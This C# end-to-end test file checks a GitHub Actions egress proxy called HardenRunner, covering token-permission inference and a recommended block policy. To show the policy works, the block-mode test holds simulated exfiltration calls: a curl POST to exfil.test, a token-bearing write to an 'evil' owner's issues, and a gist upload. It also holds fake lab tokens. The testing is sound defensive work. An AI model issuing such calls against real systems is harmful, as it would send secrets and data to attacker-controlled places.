using System.Text.Json;
using System.Text.Json.Nodes;
using HardenRunner.EndToEnd.Tests.Support;
using HardenRunner.Lab;
using TestLab = HardenRunner.Lab.Lab;

namespace HardenRunner.EndToEnd.Tests;

/// <summary>
/// Insights in the lab (docs/insights.md): the GITHUB_TOKEN permissions of a job that calls the lab's api.github.com
/// with an installation token, and the recommend round trip (audit run → recommend → block run with the recommended
/// policy: the job still works, an exfiltration added to it is blocked).
/// </summary>
public sealed class InsightsLabTests
{
    private const string Token = "ghs_LabInstallationToken0123456789abcdef";
    private const string Pat = "ghp_LabPersonalToken0123456789abcdefghij";
    private static readonly TimeSpan ClientTimeout = TimeSpan.FromSeconds(20);
    private static readonly TimeSpan CommandTimeout = TimeSpan.FromSeconds(60);

    private static readonly Dictionary<string, string> Job = new()
    {
        ["GITHUB_REPOSITORY"] = "acme/web",
        ["GITHUB_WORKFLOW"] = "ci",
        ["GITHUB_JOB"] = "build",
    };

    private static Task<LabProcessResult> Curl(TestLab lab, params string[] args) =>
        lab.RunInRunnerAsync("curl", ["-sS", "--max-time", "10", .. args], ClientTimeout, new Dictionary<string, string> { ["GITHUB_ACTION"] = "__run_2" });

    private static Task<LabProcessResult> Cli(TestLab lab, params string[] args) =>
        lab.RunInRunnerAsync(HardenRunnerBinary.FileName, HardenRunnerBinary.Args([.. args]), CommandTimeout);

    private static string GraphQl(string query) => JsonSerializer.Serialize(new { query });

    /// <summary>The job: REST read, REST write, GraphQL query and mutation, all with the installation token.</summary>
    private static async Task RunGitHubJobAsync(TestLab lab)
    {
        var auth = $"Authorization: token {Token}";
        var read = await Curl(lab, "-w", "\n%{http_code}", "-H", auth, "https://api.github.com/repos/acme/web/contents/README.md");
        Assert.True(read.Succeeded && read.StandardOutput.EndsWith("\n200", StringComparison.Ordinal), read.ToString());
        Assert.Contains("\"type\":\"file\"", read.StandardOutput, StringComparison.Ordinal);

        var comment = await Curl(lab, "-w", "\n%{http_code}", "-H", $"Authorization: Bearer {Token}", "-H", "Content-Type: application/json",
            "-d", "{\"body\":\"build passed\"}", "https://api.github.com/repos/acme/web/issues/1/comments");
        Assert.True(comment.Succeeded && comment.StandardOutput.EndsWith("\n201", StringComparison.Ordinal), comment.ToString());

        var query = await Curl(lab, "-w", "\n%{http_code}", "-H", auth, "-H", "Content-Type: application/json",
            "--data-binary", GraphQl("query { repository(owner: \"acme\", name: \"web\") { issues(first: 5) { nodes { title } } } }"),
            "https://api.github.com/graphql");
        Assert.True(query.Succeeded && query.StandardOutput.EndsWith("\n200", StringComparison.Ordinal), query.ToString());

        var mutation = await Curl(lab, "-w", "\n%{http_code}", "-H", auth, "-H", "Content-Type: application/json",
            "--data-binary", GraphQl("mutation Comment { addComment(input: {subjectId: \"I_kwLab1\", body: \"from graphql\"}) { clientMutationId } }"),
            "https://api.github.com/graphql");
        Assert.True(mutation.Succeeded && mutation.StandardOutput.EndsWith("\n200", StringComparison.Ordinal), mutation.ToString());
    }

    [SkippableFact]
    public async Task GitHubTokenCalls_YieldExactlyTheMinimalPermissionsBlock_AndTheTokenIsNeverStored()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        var appliance = await ApplianceProcess.StartAsync(lab, null, Job, null, "--upstream-ca", lab.CaCertificatePath);
        await using (appliance)
        {
            await RunGitHubJobAsync(lab);

            // calls that must not count: a personal token (a write!) and no token at all
            var pat = await Curl(lab, "-o", "/dev/null", "-w", "%{http_code}", "-X", "PUT", "-H", $"Authorization: token {Pat}", "-d", "{}",
                "https://api.github.com/repos/acme/web/contents/notes.txt");
            Assert.True(pat.Succeeded, pat.ToString());
            var anonymous = await Curl(lab, "https://api.github.com/repos/acme/web");
            Assert.Equal("lab:api.github.com\n", anonymous.StandardOutput);

            // the GraphQL bodies reached GitHub whole (the proxy only copies a prefix as it streams)
            var graphQl = lab.HttpLog.Read().Where(r => r.Server == "api.github.com" && r.Path == "/graphql").ToList();
            Assert.Equal(2, graphQl.Count);
            Assert.Contains(graphQl, r => r.BodyPreview.Contains("addComment", StringComparison.Ordinal) && r.Headers["authorization"] == $"token {Token}");

            var stop = await appliance.StopAsync();
            Assert.True(stop.ExitCode == 0, stop.ToString());
        }

        var report = await Cli(lab, "report", "--format", "json", "--state-dir", appliance.StateDir);
        Assert.True(report.ExitCode == 0, report.ToString());
        var json = JsonNode.Parse(report.StandardOutput)!.AsObject();
        Assert.Equal("{\"contents\":\"read\",\"issues\":\"write\"}", json["tokenPermissions"]!.ToJsonString());

        var detail = json["tokenPermissionsDetail"]!.AsObject();
        Assert.Equal(4, (int)detail["tokenCalls"]!);
        var evidence = detail["evidence"]!.AsArray().Select(e => $"{e!["scope"]}:{e["level"]}:{e["basis"]}").ToList();
        Assert.Contains("contents:read:X-Accepted-GitHub-Permissions: contents=read", evidence);
        Assert.Contains("issues:write:X-Accepted-GitHub-Permissions: issues=write; pull_requests=write", evidence);
        Assert.Contains("issues:read:GraphQL query repository.issues", evidence);
        Assert.Contains("issues:write:GraphQL mutation addComment", evidence);

        var block = await Cli(lab, "recommend", "--permissions", "--state-dir", appliance.StateDir);
        Assert.True(block.ExitCode == 0, block.ToString());
        var lines = block.StandardOutput.Split('\n');
        Assert.Equal(
            ["permissions:", "  contents: read", "  issues: write"],
            lines.Where(l => !l.TrimStart().StartsWith('#') && l.Length > 0).Select(l => l.Split("  #")[0]));
        Assert.Contains(lines, l => l.StartsWith("  contents: read  # GET api.github.com/repos/acme/web/contents/README.md (X-Accepted-GitHub-Permissions: contents=read; 1 call(s), HTTP 200", StringComparison.Ordinal));

        // the proxy recorded the token's kind, never the token, anywhere in the state directory
        foreach (var file in Directory.EnumerateFiles(appliance.StateDir, "*", SearchOption.AllDirectories))
        {
            var bytes = await File.ReadAllBytesAsync(file);
            var text = System.Text.Encoding.Latin1.GetString(bytes);
            Assert.False(text.Contains("LabInstallationToken", StringComparison.Ordinal), $"{file} holds the installation token");
            Assert.False(text.Contains("LabPersonalToken", StringComparison.Ordinal), $"{file} holds the personal token");
        }

        Assert.DoesNotContain("LabInstallationToken", report.StandardOutput, StringComparison.Ordinal);
    }

    [SkippableFact]
    public async Task Recommend_RoundTrip_AuditThenBlock_JobPasses_ExfiltrationIsBlocked()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        var state = Path.Combine(lab.WorkDirectory, "shared-state");
        var marker = EnforcementCoreTests.Unique("exfil-");

        // 1. audit: nothing allowed, everything recorded
        var audit = await ApplianceProcess.StartAsync(lab, null, Job, state, "--upstream-ca", lab.CaCertificatePath);
        await using (audit)
        {
            await RunBuildJobAsync(lab);
            Assert.Equal(0, (await audit.StopAsync()).ExitCode);
        }

        // 2. recommend, and the policy passes 'policy check'
        var policyPath = Path.Combine(lab.WorkDirectory, "recommended.yml");
        var recommend = await Cli(lab, "recommend", "--state-dir", state, "-o", policyPath);
        Assert.True(recommend.ExitCode == 0, recommend.ToString());
        var policy = await File.ReadAllTextAsync(policyPath);
        var check = await Cli(lab, "policy", "check", policyPath);
        Assert.True(check.ExitCode == 0, check + "\n" + policy);
        Assert.Contains("egress-policy: block", policy, StringComparison.Ordinal);
        Assert.Contains("\"allowed.test:443\"", policy, StringComparison.Ordinal);
        Assert.Contains("\"allowed.test:80\"", policy, StringComparison.Ordinal);
        Assert.Contains("{ method: [GET, POST], path: \"/repos/acme/web/**\" }", policy, StringComparison.Ordinal);

        // 3. the same job in block mode with the recommended policy: it still works ...
        var block = await ApplianceProcess.StartAsync(lab, policy, Job, state, "--upstream-ca", lab.CaCertificatePath);
        await using (block)
        {
            await RunBuildJobAsync(lab);

            // ... while the exfiltration added to it is blocked: a new host, and a write to another owner through the allowed API host
            var toExfil = await Curl(lab, "-X", "POST", "-d", marker, "https://exfil.test/upload");
            Assert.False(toExfil.Succeeded, toExfil.ToString());
            var viaApi = await Curl(lab, "-o", "/dev/null", "-w", "%{http_code}", "-H", $"Authorization: token {Token}", "-d", $"{{\"title\":\"{marker}\"}}",
                "https://api.github.com/repos/evil/drop/issues");
            Assert.Equal("403", viaApi.StandardOutput);
            var gist = await Curl(lab, "-o", "/dev/null", "-w", "%{http_code}", "-H", $"Authorization: token {Token}", "-d", marker, "https://api.github.com/gists");
            Assert.Equal("403", gist.StandardOutput);
            Assert.True(await lab.HttpLog.NoneWithinAsync(r => r.BodyPreview.Contains(marker, StringComparison.Ordinal), TimeSpan.FromSeconds(1)), "the lab received the exfiltrated payload");
            Assert.Equal(0, (await block.StopAsync()).ExitCode);
        }

        // the block run's detections: the write into another owner
        var report = JsonNode.Parse(await File.ReadAllTextAsync(Path.Combine(state, "report.json")))!.AsObject();
        Assert.Equal("block", (string?)report["run"]!["egressPolicy"]);
        var detections = report["detections"]!.AsArray().Select(d => $"{d!["type"]} {d["summary"]}").ToList();
        Assert.Contains(detections, d => d.StartsWith("github-cross-org-write POST api.github.com/repos/evil/drop/issues writes into 'evil'", StringComparison.Ordinal));
        Assert.Contains("2 run(s) of acme/web / ci / build", (string?)report["recommendedPolicy"], StringComparison.Ordinal);
    }

    /// <summary>The "build": a download over HTTPS and HTTP, and the GitHub calls with the job's token.</summary>
    private static async Task RunBuildJobAsync(TestLab lab)
    {
        var https = await Curl(lab, "https://allowed.test/deps/lib.tgz");
        Assert.True(https.Succeeded && https.StandardOutput == "lab:allowed.test\n", https.ToString());
        var http = await Curl(lab, "http://allowed.test/mirror/index");
        Assert.True(http.Succeeded && http.StandardOutput == "lab:allowed.test\n", http.ToString());
        await RunGitHubJobAsync(lab);
    }
}
